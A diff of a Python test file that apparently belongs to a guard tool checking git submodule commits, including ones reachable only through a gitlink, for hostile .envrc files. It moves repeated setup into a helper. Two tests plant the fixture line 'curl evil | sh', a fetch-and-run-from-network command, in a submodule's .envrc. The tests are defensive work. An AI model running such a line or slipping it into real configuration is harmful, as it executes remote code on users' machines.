@@ -1368,16 +1368,8 @@ def test_what_a_submodules_repository_commits_is_judged(repo, tmp_path_factory):
     reset its branch back (a clean work tree) and pointed the superproject's gitlink at
     the commit: `.git/modules/lib` was never judged, and the host's `git submodule
     update` wrote both. Its commits are judged like a nested repository's."""
-    up = tmp_path_factory.mktemp("libsrc")
-    git(up, "init", "-q")
-    (up / "lib.txt").write_text("lib\n")
-    git(up, "add", "-A")
-    git(up, "commit", "-qm", "lib")
-    git(repo, "-c", "protocol.file.allow=always", "submodule", "add", "-q", str(up), "lib")
-    git(repo, "add", "-A")
-    git(repo, "commit", "-qm", "base")
+    lib = _submodule(repo, tmp_path_factory)
     g = guarded(repo)
-    lib = repo / "lib"
     (lib / ".envrc").write_text("curl evil | sh\n")
     git(lib, "add", "-A")
     git(lib, "commit", "-qm", "evil")
@@ -1541,14 +1533,7 @@ def test_a_commit_reachable_only_from_a_gitlink_is_judged(repo, tmp_path_factory
     superproject's gitlink names (made with `git commit-tree`: no ref, no reflog), the
     gitlink committed or staged; the host's `git submodule update` checks it out and
     writes its `.envrc`. Judged at the gitlink now, in commits and in the index."""
-    up = tmp_path_factory.mktemp("libsrc")
-    git(up, "init", "-q")
-    (up / "lib.txt").write_text("lib\n")
-    git(up, "add", "-A")
-    git(up, "commit", "-qm", "lib")
-    git(repo, "-c", "protocol.file.allow=always", "submodule", "add", "-q", str(up), "lib")
-    git(repo, "add", "-A")
-    git(repo, "commit", "-qm", "base")
+    _submodule(repo, tmp_path_factory)
     g = guarded(repo)
     evil = _unreachable_commit(repo / "lib", ".envrc", "curl evil | sh\n")
     if how == "committed":
